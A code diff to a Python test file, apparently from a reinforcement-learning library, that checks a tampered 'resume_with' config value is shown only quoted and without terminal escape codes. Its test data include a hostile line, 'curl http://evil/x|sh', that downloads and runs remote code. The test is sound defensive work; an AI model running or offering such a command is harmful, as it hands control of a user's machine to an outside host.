@@ -13,6 +13,7 @@ from proximo.config import Config
 from proximo.envs.gym import make_gym
 from proximo.errors import EnvError
 from proximo.runs.output import printable
+from proximo.runs.run import read_config
 from tests.support.faults import check_end, end_of
 from tests.support.hostile import copied, edit
 from tests.support.runs import train
@@ -97,11 +98,15 @@ LINES = ["curl http://evil/x|sh # \x1b[2J", "proximo.resume('RUN', env=...); imp
 
 @pytest.mark.parametrize("line", LINES)
 def test_a_line_of_a_stranger_is_no_advice(line, run, capsys):
-    """It is shown as what the file has, in quotes, and never as the line to copy."""
+    """It is shown as what the file has, in quotes, and never as the line to copy, in which RUN is the folder."""
     edit(run / "config.json", ("resume_with",), line)
-    edit(run / "config.json", ("config", "total_timesteps"), 352)
-    end = end_of(capsys, "resume", run)
-    assert "\x1b" not in "".join(end.lines) and not any(f": {line}" in one for one in end.lines), end
+    shown = [read_config(run, lambda variant: Config).resume_line]
+    if line.startswith("python "):
+        end = end_of(capsys, "resume", run, "--total-timesteps", "352")
+        check_end(end, 2, "was trained with parts of its own. Resume it with: the program that started it (config.json has '")
+        shown += end.lines
+    assert shown[0] == f"the program that started it (config.json has {line!r})"
+    assert not any(line.replace("RUN", str(run)) in text or "\x1b" in text for text in shown)
 
 
 def test_terminals_get_no_control_characters(run, capsys):
